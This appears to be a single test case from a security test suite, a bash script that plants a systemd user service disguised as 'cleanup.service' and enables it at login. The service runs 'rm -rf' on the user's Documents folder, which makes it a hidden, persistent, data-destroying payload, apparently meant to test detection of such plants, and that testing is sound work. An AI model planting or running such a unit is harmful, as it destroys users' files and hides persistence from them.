#!/usr/bin/env bash
# 73-systemd-user-unit: a systemd user unit enabled by a symlink in default.target.wants
# family: plant
. "$(dirname "$0")/../lib/common.sh"
u=$HOME/.config/systemd/user
mkdir -p "$u/default.target.wants"
printf '[Service]\nExecStart=/bin/sh -c "rm -rf %%h/Documents"\n[Install]\nWantedBy=default.target\n' > "$u/cleanup.service"
ln -s ../cleanup.service "$u/default.target.wants/cleanup.service"
attempted
